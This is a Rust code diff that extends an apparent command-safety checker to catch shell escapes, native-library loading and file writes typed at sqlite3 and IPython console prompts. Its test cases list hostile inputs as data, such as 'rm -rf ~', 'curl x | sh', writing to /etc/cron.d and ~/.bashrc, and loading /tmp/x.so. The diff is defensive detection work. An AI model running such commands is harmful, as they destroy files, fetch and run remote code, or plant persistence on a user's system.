@@ -132,6 +132,24 @@ pub fn input(name: &str, rest: &[String], stdin: &Stdin) -> Option<String> {
 /// IPython's and many consoles' `!`, vim's `:!`, gdb's `shell`, lldb's `platform shell`.
 pub fn shell_escape(line: &str) -> Option<&str> {
     let l = line.trim_start();
+    // sqlite3's `.import '|CMD' TABLE`, `.read '|CMD'`, `.output |CMD`, `.once |CMD`: the
+    // command's output is read, or the console's output fed to it.
+    for dot in [".import ", ".read ", ".output ", ".once "] {
+        if let Some(rest) = l.strip_prefix(dot) {
+            let rest = rest.trim_start();
+            let (quote, body) = match rest.chars().next() {
+                Some(q @ ('\'' | '"')) => (Some(q), &rest[1..]),
+                _ => (None, rest),
+            };
+            if let Some(command) = body.strip_prefix('|') {
+                let end = match quote {
+                    Some(q) => command.find(q).unwrap_or(command.len()),
+                    None => command.len(),
+                };
+                return Some(command[..end].trim()).filter(|c| !c.is_empty());
+            }
+        }
+    }
     for prefix in [
         ".shell ",
         ".system ",
@@ -141,6 +159,9 @@ pub fn shell_escape(line: &str) -> Option<&str> {
         "!",
         "shell ",
         "platform shell ",
+        // IPython's `%sx CMD` (and `%system`, read by `!`'s rule as any `%`-less escape).
+        "%sx ",
+        "%system ",
     ] {
         if let Some(rest) = l.strip_prefix(prefix)
             && !rest.trim().is_empty()
@@ -149,6 +170,44 @@ pub fn shell_escape(line: &str) -> Option<&str> {
         }
     }
     None
+}
+
+/// Why a line typed at a console's prompt loads native code, if it does: sqlite3's `.load
+/// LIB` and `load_extension('LIB')`, which run the library's code in the console.
+pub fn loads_native(line: &str) -> Option<String> {
+    let l = line.trim_start();
+    let lower = l.to_ascii_lowercase();
+    (l.starts_with(".load ") || lower.contains("load_extension("))
+        .then(|| "loads a library into the console, whose native code cannot be read".into())
+}
+
+/// The files a line typed at a SQL console's prompt writes, as `tee PATH` lines:
+/// `ATTACH DATABASE 'PATH'` and `VACUUM INTO 'PATH'` create the file; sqlite3's `.output`,
+/// `.once`, `.save` and `.backup` write the file they name.
+pub fn console_writes(line: &str) -> Vec<String> {
+    let l = line.trim_start();
+    let lower = l.to_ascii_lowercase();
+    let mut out = Vec::new();
+    for keyword in ["attach database ", "attach ", "vacuum into "] {
+        if let Some(at) = lower.find(keyword) {
+            let rest = l[at + keyword.len()..].trim_start();
+            if let Some(q @ ('\'' | '"')) = rest.chars().next()
+                && let Some(end) = rest[1..].find(q)
+            {
+                out.push(format!("tee {}", shell_words::quote(&rest[1..1 + end])));
+            }
+            break;
+        }
+    }
+    for dot in [".output ", ".once ", ".save ", ".backup "] {
+        if let Some(rest) = l.strip_prefix(dot)
+            && let Ok(words) = shell_words::split(rest)
+            && let Some(file) = words.last().filter(|f| !f.starts_with(['|', '-']))
+        {
+            out.push(format!("tee {}", shell_words::quote(file)));
+        }
+    }
+    out
 }
 
 fn sql_why(name: &str) -> String {
@@ -243,11 +302,32 @@ mod tests {
             ("\\! rm -rf ~", "rm -rf ~"),
             (":!rm -rf ~", "rm -rf ~"),
             ("platform shell id", "id"),
+            (".import '|rm -rf ~' t", "rm -rf ~"),
+            (".read \"|curl x | sh\"", "curl x | sh"),
+            (".output |sh", "sh"),
+            ("%sx rm -rf ~", "rm -rf ~"),
         ] {
             assert_eq!(shell_escape(line), Some(command), "{line}");
         }
-        for line in [".tables", "select 1;", "print(1)", "!"] {
+        for line in [
+            ".tables",
+            "select 1;",
+            "print(1)",
+            "!",
+            ".import data.csv t",
+        ] {
             assert_eq!(shell_escape(line), None, "{line}");
         }
+        assert!(loads_native(".load /tmp/x.so").is_some());
+        assert!(loads_native("SELECT load_extension('/tmp/x.so');").is_some());
+        assert!(loads_native(".tables").is_none());
+        assert_eq!(
+            console_writes("ATTACH DATABASE '/etc/cron.d/x' AS x;"),
+            ["tee /etc/cron.d/x"]
+        );
+        assert_eq!(console_writes("VACUUM INTO \"b.db\""), ["tee b.db"]);
+        assert_eq!(console_writes(".output ~/.bashrc"), ["tee '~/.bashrc'"]);
+        assert!(console_writes(".output |sh").is_empty());
+        assert!(console_writes("select 1;").is_empty());
     }
 }
